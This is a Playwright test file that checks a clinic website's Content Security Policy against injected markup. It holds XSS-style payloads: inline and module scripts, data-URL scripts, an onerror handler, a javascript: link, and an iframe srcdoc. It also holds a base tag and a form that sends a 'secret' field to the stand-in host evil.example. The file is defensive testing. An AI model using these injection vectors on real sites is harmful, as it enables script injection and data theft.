import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { type ChildProgram, runProgram } from '#tests/support/child-program.ts';
import { expect, test } from '#tests/support/test.ts';

/** A script that records its name when it runs. */
const note = (name: string) => `(top.ran ??= []).push('${name}')`;

const RUNS_BY_ITSELF = {
  inline: `<script>${note('inline')}</script>`,
  'with a guessed nonce': `<script nonce="guessed">${note('with a guessed nonce')}</script>`,
  module: `<script type="module">${note('module')}</script>`,
  'data address': `<script src="data:text/javascript,${note('data address')}"></script>`,
  'event handler': `<img src="data:," alt="" onerror="${note('event handler')}">`,
  'in a frame': `<iframe title="f" srcdoc="<script>${note('in a frame')}</script>"></iframe>`,
};

const HEAD = `<base href="https://evil.example/"><style>h1 { color: rgb(255, 0, 0) }</style>
  <link rel="stylesheet" href="data:text/css,h1 { text-indent: 7px }">`;
const BODY = `${Object.values(RUNS_BY_ITSELF).join('')}
  <a id="trap" href="javascript:${note('javascript address')}">a</a>
  <form id="leak" action="https://evil.example/"><input name="secret" value="1"></form>`;

// One worker, because each would start a server with a new database.
test.describe.configure({ mode: 'default' });

let dir: string;
let server: ChildProgram;
let url: string;

test.beforeAll(async () => {
  test.setTimeout(120_000);
  dir = await mkdtemp(join(tmpdir(), 'clinic-atlas-injected-'));
  server = runProgram('tests/support/injecting-server.ts', [HEAD, BODY], {
    NODE_ENV: 'production',
    VAR_DIR: dir,
    DATABASE_URL: '',
    SITE_URL: '',
  });
  url = await server.line('http://');
});
test.afterAll(async () => {
  server.kill('SIGTERM');
  await server.ended();
  await rm(dir, { recursive: true, force: true });
});

const readRan = (page: Page) => page.evaluate(() => (window as { ran?: string[] }).ran ?? []);

/** Records the policy directives that refused something. */
async function recordRefusals(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('noteRefusal', (directive: string) => void refused.push(directive));
  await page.addInitScript(() => {
    const { noteRefusal } = window as unknown as { noteRefusal: (directive: string) => void };
    document.addEventListener('securitypolicyviolation', (event) => noteRefusal(event.effectiveDirective));
  });
  return refused;
}

test.describe('markup that got into a page', () => {
  // The browser reports every refusal.
  test.use({ expectedProblems: [/Content Security Policy/] });

  test('runs nothing, loads nothing and sends nothing, and the page works', async ({ page }) => {
    const refused = await recordRefusals(page);
    await page.goto(`${url}/contact`);
    // Before hydration, the browser's own form validation runs.
    await expect(async () => {
      await page.getByRole('button', { name: 'Send Message' }).click();
      const faults = page.getByRole('region', { name: 'Please check 4 answers' });
      await expect(faults).toBeFocused({ timeout: 1000 });
    }).toPass();

    await page.evaluate(() => document.querySelector<HTMLElement>('#trap')?.click());
    expect(await page.evaluate(() => document.baseURI)).toBe(`${url}/contact`);
    const heading = page.getByRole('heading', { level: 1 });
    await expect(heading).not.toHaveCSS('color', 'rgb(255, 0, 0)');
    await expect(heading).not.toHaveCSS('text-indent', '7px');
    expect(await readRan(page)).toEqual([]);

    await page.evaluate(() => document.querySelector<HTMLFormElement>('#leak')?.submit());
    await expect.poll(() => refused).toContain('form-action');
    expect(new Set(refused)).toEqual(
      new Set(['base-uri', 'form-action', 'script-src-attr', 'script-src-elem', 'style-src-elem']),
    );
    // One refusal per script, including those of the frame and the javascript: address.
    expect(refused.filter((directive) => directive === 'script-src-elem')).toHaveLength(
      Object.keys(RUNS_BY_ITSELF).length,
    );
  });
});

test.describe('without the policy the same markup', () => {
  // The injected base address breaks all relative URLs of the page.
  test.use({ bypassCSP: true, expectedProblems: [/evil\.example|ERR_/] });

  test('runs, loads and sends', async ({ page }) => {
    await page.goto(`${url}/contact`);
    await expect.poll(async () => new Set(await readRan(page))).toEqual(new Set(Object.keys(RUNS_BY_ITSELF)));
    await page.evaluate(() => document.querySelector<HTMLElement>('#trap')?.click());
    await expect.poll(() => readRan(page)).toContain('javascript address');
    await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('color', 'rgb(255, 0, 0)');
    await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('text-indent', '7px');
    expect(await page.evaluate(() => document.baseURI)).toBe('https://evil.example/');
  });
});

test('every page is answered to HEAD as to GET', async ({ request }) => {
  for (const path of ['/contact', '/privacy', '/no-such-page', '/admin']) {
    const [get, head] = [await request.get(url + path), await request.head(url + path)];
    expect(head.status(), path).toBe(get.status());
    const { date: _, 'x-request-id': __, ...expected } = get.headers();
    expect(head.headers(), path).toMatchObject(expected);
    expect(expected['content-security-policy']).toContain("'sha256-");
  }
});
